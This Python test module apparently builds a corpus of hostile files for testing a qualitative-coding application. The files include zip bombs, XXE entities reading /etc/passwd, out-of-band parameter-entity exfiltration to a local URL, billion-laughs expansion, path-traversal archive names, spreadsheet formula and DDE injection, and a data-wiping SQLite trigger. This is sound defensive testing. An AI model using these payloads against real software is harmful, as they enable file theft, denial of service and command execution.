"""A corpus of hostile files, and the harness that hands each one to the real command line.

Transcripts, codebooks and project files reach a researcher from colleagues, other programs
and downloads, so any of them may be broken or built to hurt: a zip bomb, an XML entity that
reads /etc/passwd, a document nested 100,000 levels deep, a FIFO that never ends. The promise
under test: such a file is refused in one sentence that names it, within a time and memory
budget, and the project is exactly as it was.

`build_corpus(folder)` writes every case and returns them; `run_case` runs one through
`python -m duocoder` in a child process limited in address space, and `problems` lists what
the user would have noticed. Nothing here is committed as a binary: every bomb is generated
from a few compressed pieces repeated (a deflate stream flushed with Z_FULL_FLUSH starts
afresh, so the compressed bytes of one megabyte of spaces can be written a thousand times).
Building the whole corpus takes a few seconds; no file is more than a few MB on disk except
the million-cue subtitle file, which is that large by nature.

Run as a program for per-case figures (seconds, peak memory, verdict), one JSON line each:

    .venv/bin/python -m tests.security.hostile_corpus [--only CASE_ID ...]
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import os
import random
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
IMPORT = "import"
CODEBOOK = "codebook import"
PROJECT = "open project"

TIMEOUT_SECONDS = 30.0
"""A refusal is one look at the file; a researcher waiting longer thinks DuoCoder hangs."""

MEMORY_LIMIT = 3 * 1024**3
"""RLIMIT_AS of the child: a runaway reader fails here rather than swapping the machine."""

PEAK_RSS_CEILING_MB = 1024
"""DuoCoder imports its largest accepted document in well under 1 GB (document_limits.py);
refusing a file must never cost more than accepting the largest real one."""

APPLICATION_ID = 0x44554F43  # DuoCoder's, see duocoder/storage/database.py
MB = 1024 * 1024


# -- the cases -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile file and the command that consumes it."""

    id: str
    path: Path
    command: str
    description: str
    may_import: bool = False
    """Importing it is acceptable too (the hostile part is inert), as long as it is safe."""
    secret: str | None = None
    """Text that reading the file must never bring into the output or the project."""

    def argv(self, project: Path) -> list[str]:
        if self.command == IMPORT:
            return ["import", str(project), str(self.path), "--role", "participant"]
        if self.command == CODEBOOK:
            return ["codebook", "import", str(project), str(self.path)]
        return ["docs", str(self.path)]


@dataclass(frozen=True)
class _Spec:
    id: str
    file_name: str
    command: str
    description: str
    write: Callable[[Path, _Env], None]
    may_import: bool = False
    secret: str | None = None
    posix_only: bool = False


@dataclass(frozen=True)
class _Env:
    """What writers share: the corpus folder and the canary a leaking reader would copy."""

    folder: Path
    canary_file: Path
    canary_dtd: Path


CANARY = "CANARY-4b1d-stolen-file-content"
"""Stands in for /etc/passwd where a case needs a secret whose leak the test can detect."""


# -- zip archives written by hand, so that declared sizes cost nothing ------------------------


@dataclass(frozen=True)
class _Member:
    name: str
    data: bytes
    """As stored in the archive: deflated unless `method` is 0."""
    crc: int
    size: int
    """The uncompressed size the archive declares."""
    method: int = zipfile.ZIP_DEFLATED


def _deflated(name: str, pieces: Sequence[tuple[bytes, int]]) -> _Member:
    """A member whose content is each (bytes, times) piece repeated; compressing a piece once
    and repeating its output is exact because a full flush resets the compressor."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = bytearray()
    crc = size = 0
    for chunk, times in pieces:
        block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
        out += block * times
        for _ in range(times):
            crc = zlib.crc32(chunk, crc)
        size += len(chunk) * times
    out += compressor.flush()
    return _Member(name, bytes(out), crc, size)


def _plain(name: str, data: bytes) -> _Member:
    return _deflated(name, [(data, 1)])


def _stored(name: str, data: bytes) -> _Member:
    return _Member(name, data, zlib.crc32(data), len(data), zipfile.ZIP_STORED)


def _write_zip(path: Path, members: Iterable[_Member]) -> None:
    """A plain zip (no zip64: under 65,535 members and 4 GB per member, as declared)."""
    central = bytearray()
    count = 0
    with path.open("wb") as fh:
        for m in members:
            name = m.name.encode()
            offset = fh.tell()
            sizes = (m.crc, len(m.data), m.size, len(name))
            fh.write(
                struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, m.method, 0, 0x21, *sizes, 0)
            )
            fh.write(name)
            fh.write(m.data)
            central += struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, m.method, 0, 0x21, *sizes,
                0, 0, 0, 0, 0, offset,
            )  # fmt: skip
            central += name
            count += 1
        start = fh.tell()
        fh.write(central)
        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, 0))


def _spaces_bomb(name: str, head: bytes, tail: bytes, megabytes: int) -> _Member:
    """A well-formed XML part padded with `megabytes` MB of white space between two tags:
    a reader that trusts it parses it all; it deflates about 1000:1."""
    return _deflated(name, [(head, 1), (b" " * MB, megabytes), (tail, 1)])


def _total_bomb(prefix: str, count: int = 300) -> Iterable[_Member]:
    """`count` members just under 4 MB each: every one looks small and harmless, together
    they unpack to more than a gigabyte."""
    one = _deflated("", [(b"\0" * (4 * MB - 4096), 1)])
    for i in range(count):
        yield _Member(f"{prefix}{i}.bin", one.data, one.crc, one.size)


def _many_entries(prefix: str, count: int = 20_000) -> Iterable[_Member]:
    empty = _stored("", b"")
    for i in range(count):
        yield _Member(f"{prefix}{i}.xml", empty.data, empty.crc, 0, zipfile.ZIP_STORED)


# -- skeletons: the harmless files the hostile ones are variations of ------------------------

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_DOCX_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="word/document.xml" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_DOCX_TEXT = (
    "<w:p><w:r><w:t>I: Hoe gaat het met jullie duo?</w:t></w:r></w:p>"
    "<w:p><w:r><w:t>R: Goed, we wandelen elke week samen.</w:t></w:r></w:p>"
)


def _docx_head(doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
        f'<w:document xmlns:w="{_W}"><w:body>'
    ).encode()


_DOCX_TAIL = b"</w:body></w:document>"


def _docx_xml(body: str = _DOCX_TEXT, doctype: str = "") -> bytes:
    return _docx_head(doctype) + body.encode() + _DOCX_TAIL


def _docx(path: Path, document: _Member | None = None, extra: Iterable[_Member] = ()) -> None:
    document = document or _plain("word/document.xml", _docx_xml())
    _write_zip(
        path,
        [
            _plain("[Content_Types].xml", _DOCX_TYPES),
            _plain("_rels/.rels", _DOCX_RELS),
            document,
            *extra,
        ],
    )


_ODT_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
_ODT_TEXT = (
    "<text:p>I: Hoe gaat het met jullie duo?</text:p>"
    "<text:p>R: Goed, we wandelen elke week samen.</text:p>"
)
_ODT_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
    b'"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
    b'<manifest:file-entry manifest:full-path="/" '
    b'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    b"</manifest:manifest>"
)


def _odt_head(doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<office:document-content {_ODT_NS} '
        'office:version="1.2"><office:body><office:text>'
    ).encode()


_ODT_TAIL = b"</office:text></office:body></office:document-content>"


def _odt_xml(body: str = _ODT_TEXT, doctype: str = "") -> bytes:
    return _odt_head(doctype) + body.encode() + _ODT_TAIL


def _odt(path: Path, content: _Member | None = None, extra: Iterable[_Member] = ()) -> None:
    _write_zip(
        path,
        [
            _stored("mimetype", b"application/vnd.oasis.opendocument.text"),
            content or _plain("content.xml", _odt_xml()),
            _plain("META-INF/manifest.xml", _ODT_MANIFEST),
            *extra,
        ],
    )


_SHEET = "xl/worksheets/sheet1.xml"
_SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _xlsx_parts() -> list[tuple[str, bytes]]:
    """The parts of a real workbook from openpyxl, whose first sheet the cases replace."""
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["path"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _cell(row: int, value: str) -> str:
    return f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>{value}</t></is></c></row>'


def _sheet_head(doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<worksheet xmlns="{_SHEET_NS}">'
        f"<sheetData>{_cell(1, 'path')}"
    ).encode()


_SHEET_TAIL = b"</sheetData></worksheet>"


def _sheet_xml(rows: str = _cell(2, "Verbinding/Vertrouwen"), doctype: str = "") -> bytes:
    return _sheet_head(doctype) + rows.encode() + _SHEET_TAIL


def _xlsx(path: Path, sheet: _Member | None = None, extra: Iterable[_Member] = ()) -> None:
    sheet = sheet or _plain(_SHEET, _sheet_xml())
    parts = [sheet if name == _SHEET else _plain(name, data) for name, data in _xlsx_parts()]
    _write_zip(path, [*parts, *extra])


_QDC_NS = "urn:QDA-XML:codebook:1.0"


def _qdc_xml(codes: str = '<Code guid="{}" name="Verbinding" isCodable="true"/>', doctype=""):
    codes = codes.replace("{}", "5b0c7c2e-4a8e-4d4e-9a51-0f5f2b1c9d10")
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<CodeBook xmlns="{_QDC_NS}">'
        f"<Codes>{codes}</Codes></CodeBook>"
    ).encode()


_TXT = "I: Hoe gaat het met jullie duo?\n\nR: Goed, we wandelen elke week samen.\n"


# -- the XML attacks, as document type declarations ------------------------------------------


def _xxe(root: str, target: str) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{target}">]>'


def _external_dtd(root: str, env: _Env) -> str:
    return f'<!DOCTYPE {root} SYSTEM "{env.canary_dtd.as_uri()}">'


def _parameter_entities(root: str, env: _Env) -> str:
    return (
        f'<!DOCTYPE {root} [<!ENTITY % remote SYSTEM "{env.canary_dtd.as_uri()}"> %remote;'
        f'<!ENTITY % file SYSTEM "{env.canary_file.as_uri()}">'
        "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:9/?%file;'>\"> %wrap;]>"
    )


def _billion_laughs(root: str) -> str:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return f"<!DOCTYPE {root} [{''.join(entities)}]>"


def _quadratic(root: str) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY a "{"a" * 50_000}">]>'


_QUADRATIC_REFS = "&a;" * 50_000


# -- writers ---------------------------------------------------------------------------------


def _bytes(data: bytes) -> Callable[[Path, _Env], None]:
    return lambda path, _env: path.write_bytes(data)


def _random(seed: int, size: int = 64 * 1024) -> bytes:
    return random.Random(seed).randbytes(size)


def _docx_doc(body: str = _DOCX_TEXT, doctype: str = "") -> Callable[[Path, _Env], None]:
    return lambda path, _env: _docx(path, _plain("word/document.xml", _docx_xml(body, doctype)))


def _odt_doc(body: str = _ODT_TEXT, doctype: str = "") -> Callable[[Path, _Env], None]:
    return lambda path, _env: _odt(path, _plain("content.xml", _odt_xml(body, doctype)))


def _qdc(codes: str, doctype: str = "") -> Callable[[Path, _Env], None]:
    return lambda path, _env: path.write_bytes(_qdc_xml(codes, doctype))


def _truncated(write: Callable[[Path], None]) -> Callable[[Path, _Env], None]:
    def writer(path: Path, _env: _Env) -> None:
        write(path)
        data = path.read_bytes()
        path.write_bytes(data[: len(data) // 2 + 7])

    return writer


def _nested_zip_docx(path: Path, _env: _Env) -> None:
    """A Word file carrying an archive that is itself a bomb: only a reader that opens
    embedded archives would suffer, so importing the text is fine."""
    inner = path.with_suffix(".inner")
    _write_zip(inner, [_spaces_bomb("bomb.xml", b"<a>", b"</a>", 1024)])
    _docx(path, extra=[_stored("word/embeddings/oleObject1.zip", inner.read_bytes())])
    inner.unlink()


def _traversal_docx(path: Path, _env: _Env) -> None:
    names = ("../../../../tmp/duocoder-evil.txt", "/etc/duocoder-evil", "C:\\Windows\\evil.txt")
    _docx(path, extra=[_plain(name, b"evil") for name in names])


def _lying_docx(path: Path, _env: _Env) -> None:
    """The directory says document.xml is 1 KB; its data inflates to 1 GB."""
    bomb = _spaces_bomb("word/document.xml", _docx_head(), _DOCX_TAIL, 1024)
    _docx(path, _Member(bomb.name, bomb.data, bomb.crc, 1024))


def _lying_xlsx(path: Path, _env: _Env) -> None:
    """The directory says the sheet is 1 KB; its data inflates to 1 GB."""
    bomb = _spaces_bomb(_SHEET, _sheet_head(), _SHEET_TAIL, 1024)
    _xlsx(path, _Member(bomb.name, bomb.data, bomb.crc, 1024))


def _deep(open_tags: str, close_tags: str, levels: int) -> str:
    return open_tags * levels + close_tags * levels


def _srt_time(ms: int) -> str:
    seconds, ms = divmod(ms, 1000)
    minutes, seconds = divmod(seconds, 60)
    return f"{minutes // 60:02}:{minutes % 60:02}:{seconds:02},{ms:03}"


def _srt(cues: int) -> Callable[[Path, _Env], None]:
    """`cues` numbered cues of one character, 10 ms apart."""

    def writer(path: Path, _env: _Env) -> None:
        with path.open("w", encoding="ascii", newline="\n") as fh:
            for i in range(cues):
                fh.write(f"{i + 1}\n{_srt_time(i * 10)} --> {_srt_time(i * 10 + 5)}\nx\n\n")

    return writer


def _long_vtt_line(path: Path, _env: _Env) -> None:
    with path.open("w", encoding="ascii") as fh:
        fh.write("WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n")
        for _ in range(10):
            fh.write("a" * MB)
        fh.write("\n")


def _sparse(size: int) -> Callable[[Path, _Env], None]:
    def writer(path: Path, _env: _Env) -> None:
        with path.open("wb") as fh:
            fh.truncate(size)

    return writer


def _fifo(path: Path, _env: _Env) -> None:
    os.mkfifo(path)


def _dev_zero(path: Path, _env: _Env) -> None:
    path.symlink_to("/dev/zero")


def _folder(path: Path, _env: _Env) -> None:
    path.mkdir()


def _utf16_surrogates(path: Path, _env: _Env) -> None:
    good = _TXT.encode("utf-16-le")
    path.write_bytes(b"\xff\xfe" + good[:20] + b"\x00\xd8\x41\x00" + good[20:] + b"\x00\xdc")


def _ole(encrypted: bool) -> Callable[[Path, _Env], None]:
    def writer(path: Path, _env: _Env) -> None:
        header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
        names = ("EncryptionInfo", "EncryptedPackage") if encrypted else ("WordDocument",)
        directory = b"".join(n.encode("utf-16-le").ljust(128, b"\0") for n in names)
        path.write_bytes(header.ljust(512, b"\0") + directory + _random(len(names), 8192))

    return writer


def _csv(text: str) -> Callable[[Path, _Env], None]:
    return lambda path, _env: path.write_bytes(text.encode("utf-8"))


_DEEP_PATH = "/".join(f"n{i}" for i in range(10_000))
_FORMULA_CSV = 'path\n"=HYPERLINK(""http://127.0.0.1:9/?leak"",""x"")"\n=cmd|\' /C calc\'!A0\n'
_FORMULA_CELL = (
    '<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://127.0.0.1:9/?leak","Verbinding")</f>'
    "<v>Verbinding</v></c></row>"
    '<row r="3"><c r="A3" t="str"><f>cmd|\' /C calc\'!A0</f></c></row>'
)


# -- project files ---------------------------------------------------------------------------


def _real_project(path: Path) -> None:
    """A genuine small project: a document, the research codebook and two codings."""
    from duocoder.app.project import Project
    from tests.helpers import source

    with Project.create(path) as p:
        p.import_codebook_file(REPO / "codebooks" / "duowerkingen.qdc")
        doc = p.add_document("Anna", source(_TXT), "participant", "Buurtwerk", "Duo 1")
        p.add_coding(doc.id, "Verbinding", 0, 30)
        p.add_coding(doc.id, "Verbinding", 33, 60, coder="Lies")


def _sqlite(*statements: str) -> Callable[[Path, _Env], None]:
    def writer(path: Path, _env: _Env) -> None:
        con = sqlite3.connect(path, isolation_level=None)
        try:
            for sql in statements:
                con.execute(sql)
        finally:
            con.close()

    return writer


def _altered_project(*statements: str) -> Callable[[Path, _Env], None]:
    def writer(path: Path, env: _Env) -> None:
        _real_project(path)
        _sqlite(*statements)(path, env)

    return writer


def _truncated_project(path: Path, _env: _Env) -> None:
    _real_project(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2 + 37])


# -- the list --------------------------------------------------------------------------------


def _specs() -> list[_Spec]:
    w = "w:document"
    o, x, q = "office:document-content", "worksheet", "CodeBook"
    spaces = _spaces_bomb
    specs = [
        # Word
        _Spec(
            "docx-ratio-bomb",
            "ratio.docx",
            IMPORT,
            "document.xml: 1 GB of spaces, 1000:1",
            lambda p, e: _docx(p, spaces("word/document.xml", _docx_head(), _DOCX_TAIL, 1024)),
        ),
        _Spec(
            "docx-total-bomb",
            "total.docx",
            IMPORT,
            "300 members of 4 MB each, 1.2 GB in all",
            lambda p, e: _docx(p, extra=_total_bomb("word/media/image")),
        ),
        _Spec(
            "docx-many-entries",
            "many.docx",
            IMPORT,
            "20,000 empty members",
            lambda p, e: _docx(p, extra=_many_entries("word/parts/p")),
        ),
        _Spec(
            "docx-nested-zip",
            "nested.docx",
            IMPORT,
            "embeds a zip bomb it never needs",
            _nested_zip_docx,
            may_import=True,
        ),
        _Spec(
            "docx-path-traversal",
            "traversal.docx",
            IMPORT,
            "members named ../../, /etc, C:\\",
            _traversal_docx,
        ),
        _Spec(
            "docx-lying-size",
            "lying.docx",
            IMPORT,
            "declares 1 KB, inflates to 1 GB",
            _lying_docx,
        ),
        _Spec(
            "docx-xxe-passwd",
            "xxe.docx",
            IMPORT,
            "external entity to /etc/passwd",
            _docx_doc("<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", _xxe(w, "file:///etc/passwd")),
            may_import=True,
            secret="root:x:0:0",
        ),
        _Spec(
            "docx-external-dtd",
            "dtd.docx",
            IMPORT,
            "external DTD defining a file entity",
            lambda p, e: _docx_doc("<w:p><w:r><w:t>&leak;</w:t></w:r></w:p>", _external_dtd(w, e))(
                p, e
            ),
            may_import=True,
            secret=CANARY,
        ),
        _Spec(
            "docx-parameter-entities",
            "param.docx",
            IMPORT,
            "parameter entities, out-of-band",
            lambda p, e: _docx_doc(doctype=_parameter_entities(w, e))(p, e),
            secret=CANARY,
        ),
        _Spec(
            "docx-billion-laughs",
            "laughs.docx",
            IMPORT,
            "10^9 lols from nested entities",
            _docx_doc("<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", _billion_laughs(w)),
        ),
        _Spec(
            "docx-quadratic-blowup",
            "quadratic.docx",
            IMPORT,
            "50,000 x a 50,000-char entity",
            _docx_doc(f"<w:p><w:r><w:t>{_QUADRATIC_REFS}</w:t></w:r></w:p>", _quadratic(w)),
            may_import=True,
        ),
        _Spec(
            "docx-deep-nesting",
            "deep.docx",
            IMPORT,
            "tables in tables, 100,000 levels",
            _docx_doc(_deep("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 33_334)),
        ),
        _Spec(
            "docx-truncated",
            "truncated.docx",
            IMPORT,
            "a Word file cut in half",
            _truncated(lambda p: _docx(p)),
        ),
        _Spec("docx-empty", "empty.docx", IMPORT, "0 bytes", _bytes(b"")),
        _Spec("docx-old-doc", "old.docx", IMPORT, "a .doc (OLE) renamed .docx", _ole(False)),
        _Spec(
            "docx-encrypted",
            "encrypted.docx",
            IMPORT,
            "a password-protected (OLE) .docx",
            _ole(True),
        ),
        _Spec(
            "docx-jpeg",
            "photo.docx",
            IMPORT,
            "a JPEG renamed .docx",
            _bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + _random(3) + b"\xff\xd9"),
        ),
        _Spec("docx-folder", "folder.docx", IMPORT, "a folder named .docx", _folder),
        # OpenDocument
        _Spec(
            "odt-ratio-bomb",
            "ratio.odt",
            IMPORT,
            "content.xml of 1 GB of spaces",
            lambda p, e: _odt(p, spaces("content.xml", _odt_head(), _ODT_TAIL, 1024)),
        ),
        _Spec(
            "odt-total-bomb",
            "total.odt",
            IMPORT,
            "300 members of 4 MB each",
            lambda p, e: _odt(p, extra=_total_bomb("Pictures/image")),
        ),
        _Spec(
            "odt-many-entries",
            "many.odt",
            IMPORT,
            "20,000 empty members",
            lambda p, e: _odt(p, extra=_many_entries("Parts/p")),
        ),
        _Spec(
            "odt-xxe",
            "xxe.odt",
            IMPORT,
            "external entity in content.xml",
            lambda p, e: _odt_doc("<text:p>&xxe;</text:p>", _xxe(o, e.canary_file.as_uri()))(p, e),
            secret=CANARY,
        ),
        _Spec(
            "odt-billion-laughs",
            "laughs.odt",
            IMPORT,
            "nested entities in content.xml",
            _odt_doc("<text:p>&lol9;</text:p>", _billion_laughs(o)),
        ),
        _Spec(
            "odt-deep-nesting",
            "deep.odt",
            IMPORT,
            "sections in sections, 100,000 levels",
            _odt_doc(_deep("<text:section>", "</text:section>", 100_000)),
        ),
        _Spec(
            "odt-truncated",
            "truncated.odt",
            IMPORT,
            "an .odt cut in half",
            _truncated(lambda p: _odt(p)),
        ),
        _Spec("odt-empty", "empty.odt", IMPORT, "0 bytes", _bytes(b"")),
        # plain text and subtitles
        _Spec("txt-binary", "binary.txt", IMPORT, "64 KB of random bytes", _bytes(_random(1))),
        _Spec("srt-binary", "binary.srt", IMPORT, "64 KB of random bytes", _bytes(_random(2))),
        _Spec("vtt-binary", "binary.vtt", IMPORT, "64 KB of random bytes", _bytes(_random(4))),
        _Spec(
            "txt-nul-bytes",
            "nul.txt",
            IMPORT,
            "NUL bytes inside the text",
            _bytes(_TXT.replace("gaat", "g\0\0at").encode()),
        ),
        _Spec(
            "txt-utf16-surrogates",
            "surrogates.txt",
            IMPORT,
            "UTF-16 with lone surrogates",
            _utf16_surrogates,
        ),
        _Spec(
            "txt-huge-sparse",
            "huge.txt",
            IMPORT,
            "a 190 MB (sparse) file of NUL bytes",
            _sparse(190 * MB),
        ),
        _Spec(
            "vtt-10mb-line", "long.vtt", IMPORT, "one cue of a single 10 MB line", _long_vtt_line
        ),
        _Spec(
            "srt-million-cues",
            "million.srt",
            IMPORT,
            "1,000,000 cues of one character",
            _srt(1_000_000),
            may_import=True,
        ),
        _Spec("txt-fifo", "fifo.txt", IMPORT, "a FIFO no one writes to", _fifo, posix_only=True),
        _Spec(
            "txt-dev-zero", "zero.txt", IMPORT, "a symlink to /dev/zero", _dev_zero, posix_only=True
        ),
        _Spec("txt-empty", "empty.txt", IMPORT, "0 bytes", _bytes(b"")),
        _Spec("srt-empty", "empty.srt", IMPORT, "0 bytes", _bytes(b"")),
        _Spec("vtt-empty", "empty.vtt", IMPORT, "0 bytes", _bytes(b"")),
        # codebooks: Excel
        _Spec(
            "xlsx-ratio-bomb",
            "ratio.xlsx",
            CODEBOOK,
            "sheet1.xml of 1 GB of spaces",
            lambda p, e: _xlsx(p, spaces(_SHEET, _sheet_head(), _SHEET_TAIL, 1024)),
        ),
        _Spec(
            "xlsx-total-bomb",
            "total.xlsx",
            CODEBOOK,
            "300 members of 4 MB each",
            lambda p, e: _xlsx(p, extra=_total_bomb("xl/media/image")),
        ),
        _Spec(
            "xlsx-many-entries",
            "many.xlsx",
            CODEBOOK,
            "20,000 empty members",
            lambda p, e: _xlsx(p, extra=_many_entries("xl/parts/p")),
        ),
        _Spec(
            "xlsx-lying-size",
            "lying.xlsx",
            CODEBOOK,
            "declares a 1 KB sheet that inflates to 1 GB",
            _lying_xlsx,
        ),
        _Spec(
            "xlsx-xxe",
            "xxe.xlsx",
            CODEBOOK,
            "external entity in the sheet",
            lambda p, e: _xlsx(
                p, _plain(_SHEET, _sheet_xml(_cell(2, "&xxe;"), _xxe(x, e.canary_file.as_uri())))
            ),
            secret=CANARY,
        ),
        _Spec(
            "xlsx-billion-laughs",
            "laughs.xlsx",
            CODEBOOK,
            "nested entities in the sheet",
            lambda p, e: _xlsx(
                p, _plain(_SHEET, _sheet_xml(_cell(2, "&lol9;"), _billion_laughs(x)))
            ),
        ),
        _Spec(
            "xlsx-truncated",
            "truncated.xlsx",
            CODEBOOK,
            "a workbook cut in half",
            _truncated(lambda p: _xlsx(p)),
        ),
        _Spec("xlsx-empty", "empty.xlsx", CODEBOOK, "0 bytes", _bytes(b"")),
        _Spec(
            "xlsx-formula",
            "formula.xlsx",
            CODEBOOK,
            "HYPERLINK and DDE formula cells",
            lambda p, e: _xlsx(p, _plain(_SHEET, _sheet_xml(_FORMULA_CELL))),
            may_import=True,
        ),
        _Spec(
            "xlsx-deep-path",
            "deep.xlsx",
            CODEBOOK,
            "a code path 10,000 levels deep",
            lambda p, e: _xlsx(p, _plain(_SHEET, _sheet_xml(_cell(2, _DEEP_PATH)))),
        ),
        # codebooks: CSV
        _Spec(
            "csv-formula",
            "formula.csv",
            CODEBOOK,
            "=HYPERLINK and =cmd| cells",
            _csv(_FORMULA_CSV),
            may_import=True,
        ),
        _Spec(
            "csv-deep-path",
            "deep.csv",
            CODEBOOK,
            "a code path 10,000 levels deep",
            _csv(f"path\n{_DEEP_PATH}\n"),
        ),
        _Spec(
            "csv-nul-bytes",
            "nul.csv",
            CODEBOOK,
            "NUL bytes in a cell",
            _csv("path\nVerbin\0\0ding\n"),
        ),
        _Spec("csv-empty", "empty.csv", CODEBOOK, "0 bytes", _bytes(b"")),
        # codebooks: REFI-QDA
        _Spec(
            "qdc-xxe-passwd",
            "xxe.qdc",
            CODEBOOK,
            "external entity to /etc/passwd",
            _qdc('<Code guid="{}" name="&xxe;" isCodable="true"/>', _xxe(q, "file:///etc/passwd")),
            secret="root:x:0:0",
        ),
        _Spec(
            "qdc-external-dtd",
            "dtd.qdc",
            CODEBOOK,
            "external DTD defining a file entity",
            lambda p, e: _qdc(
                '<Code guid="{}" name="&leak;" isCodable="true"/>', _external_dtd(q, e)
            )(p, e),
            secret=CANARY,
        ),
        _Spec(
            "qdc-parameter-entities",
            "param.qdc",
            CODEBOOK,
            "parameter entities, out-of-band",
            lambda p, e: _qdc(
                '<Code guid="{}" name="x" isCodable="true"/>', _parameter_entities(q, e)
            )(p, e),
            secret=CANARY,
        ),
        _Spec(
            "qdc-billion-laughs",
            "laughs.qdc",
            CODEBOOK,
            "10^9 lols in a code name",
            _qdc('<Code guid="{}" name="&lol9;" isCodable="true"/>', _billion_laughs(q)),
        ),
        _Spec(
            "qdc-quadratic-blowup",
            "quadratic.qdc",
            CODEBOOK,
            "50,000 x a 50,000-char entity",
            _qdc(
                f'<Code guid="{{}}" name="x" isCodable="true"><Description>{_QUADRATIC_REFS}'
                "</Description></Code>",
                _quadratic(q),
            ),
        ),
        _Spec(
            "qdc-deep-nesting",
            "deep.qdc",
            CODEBOOK,
            "codes nested 100,000 levels deep",
            _qdc(_deep('<Code name="a" isCodable="true">', "</Code>", 100_000)),
        ),
        _Spec(
            "qdc-zip-bomb",
            "bomb.qdc",
            CODEBOOK,
            "a 1 GB zip bomb named .qdc",
            lambda p, e: _write_zip(p, [spaces("codebook.qdc", b"<a>", b"</a>", 1024)]),
        ),
        _Spec(
            "qdc-truncated",
            "truncated.qdc",
            CODEBOOK,
            "the research codebook cut in half",
            _truncated(lambda p: shutil.copyfile(REPO / "codebooks" / "duowerkingen.qdc", p)),
        ),
        _Spec("qdc-empty", "empty.qdc", CODEBOOK, "0 bytes", _bytes(b"")),
        # project files
        _Spec("project-empty", "empty.duocoder", PROJECT, "0 bytes", _bytes(b"")),
        _Spec(
            "project-renamed-docx",
            "word.duocoder",
            PROJECT,
            "a Word file renamed .duocoder",
            lambda p, e: _docx(p),
        ),
        _Spec(
            "project-other-program",
            "places.duocoder",
            PROJECT,
            "another program's SQLite",
            _sqlite(
                "CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT)",
                "INSERT INTO moz_places (url) VALUES ('https://example.org')",
                "PRAGMA user_version = 53",
            ),
        ),
        _Spec(
            "project-future-format",
            "future.duocoder",
            PROJECT,
            "DuoCoder's id, format 99",
            _altered_project("PRAGMA user_version = 99"),
        ),
        _Spec(
            "project-no-tables",
            "hollow.duocoder",
            PROJECT,
            "DuoCoder's id, no tables",
            _sqlite(f"PRAGMA application_id = {APPLICATION_ID}", "PRAGMA user_version = 2"),
        ),
        _Spec(
            "project-extra-trigger",
            "trigger.duocoder",
            PROJECT,
            "a trigger emptying documents",
            _altered_project(
                "CREATE TRIGGER wipe AFTER INSERT ON codings BEGIN DELETE FROM documents; END"
            ),
        ),
        _Spec(
            "project-truncated",
            "truncated.duocoder",
            PROJECT,
            "a real project cut in half",
            _truncated_project,
        ),
    ]
    return [s for s in specs if os.name == "posix" or not s.posix_only]


SPECS: tuple[_Spec, ...] = tuple(_specs())
CASE_IDS: tuple[str, ...] = tuple(s.id for s in SPECS)


def build_corpus(folder: Path, only: Iterable[str] | None = None) -> list[Case]:
    """Write every case (or those in `only`) into `folder`, each in a folder of its own so
    that whatever a command leaves beside a file is attributable, and return them."""
    folder.mkdir(parents=True, exist_ok=True)
